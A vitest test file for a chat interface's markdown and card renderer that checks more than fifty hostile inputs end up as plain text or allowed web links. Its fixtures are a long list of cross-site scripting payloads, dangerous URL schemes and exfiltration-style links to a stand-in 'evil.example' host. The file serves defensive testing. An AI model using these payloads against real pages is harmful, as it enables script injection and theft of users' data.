// @vitest-environment happy-dom
/** What a hostile model could write: none of it becomes anything but text and web links. */
import { expect, test } from "vitest";
import { placeMarkers } from "../src/markdown/markers";
import { allowedHref } from "../src/markdown/links";
import { parseBlocks } from "../src/markdown/blocks";
import { renderBlock } from "../src/markdown/render";
import { cardElement } from "../src/ui/cards";
import { questionBubble } from "../src/ui/turn";

const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript://a.example/%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2Zz4=",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://a.example/1",
  "about:blank",
  "ftp://a.example/",
  "https://user:word@evil.example/",
  "view-source:https://a.example",
  "jar:https://a.example!/",
  "intent://a.example#Intent;end",
];

const HOSTILE = [
  ...SCHEMES.map((href) => `[click](${href})`),
  ...SCHEMES.slice(0, 4).map((href) => `[click](<${href}>)`),
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>a</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><input name=a></form>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<heidi-chat api=https://evil.example></heidi-chat>",
  "![a](https://evil.example/?secret=1)",
  "![a](javascript:alert(1))",
  "[![a](https://evil.example/b.png)](https://evil.example)",
  "![a][b]\n\n[b]: https://evil.example/",
  "<https://evil.example>",
  "[a](https://evil.example\" onmouseover=\"alert(1))",
  "[a](https://a.example 'x' onclick=alert(1))",
  "[<img src=x onerror=alert(1)>](https://a.example)",
  "**<img src=x onerror=alert(1)>**",
  "`<img src=x onerror=alert(1)>`",
  "```\n</code><script>alert(1)</script>\n```",
  "- <img src=x onerror=alert(1)>",
  "> <img src=x onerror=alert(1)>",
  "# <img src=x onerror=alert(1)>",
  "| <b onclick=alert(1)> |\n|---|\n| <img src=x onerror=alert(1)> [a](javascript:alert(1)) |",
  "\uE0001\uE001<img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
];

const ALLOWED = new Set(
  "A BLOCKQUOTE BR CODE DIV EM LI OL P PRE SPAN STRONG UL SECTION H3 DL DT DD TABLE THEAD TBODY TR TH TD".split(" "),
);

const ATTRIBUTES = ["href", "rel", "target", "class", "start", "tabindex", "aria-label", "dir"];

function expectHarmless(root: HTMLElement): void {
  for (const element of [root, ...root.querySelectorAll("*")]) {
    expect(ALLOWED).toContain(element.tagName);
    for (const { name, value } of Array.from(element.attributes)) {
      expect(ATTRIBUTES).toContain(name);
      if (name === "href") expect(value).toMatch(/^https?:\/\/(a|heidi)\.example(\/|$)/);
    }
  }
}

test("there are fifty of them and more", () => {
  expect(HOSTILE.length).toBeGreaterThanOrEqual(50);
});

test.each(HOSTILE)("%j stays text", (source) => {
  const policy = { base: "https://heidi.example", hosts: ["a.example"], addresses: [] };
  const context = {
    base: policy.base,
    isHere: () => false,
    allow: (href: string) => allowedHref(href, policy),
    cite: () => null,
  };
  const blocks = parseBlocks(placeMarkers(source, []));
  const root = document.createElement("div");
  root.append(...blocks.map((block) => renderBlock(block, context)));
  expectHarmless(root);
});

test.each(HOSTILE)("%j stays text in a card and in the visitor's own words", (source) => {
  const actions = { ask: () => {}, saveMeeting: () => {} };
  const card = cardElement({ kind: "facts", title: source, rows: [[source, source]] }, actions);
  card.removeAttribute("aria-label");
  expectHarmless(card);
  expect(card.querySelector("dd")?.textContent).toBe(source);
  expectHarmless(questionBubble(source));
});
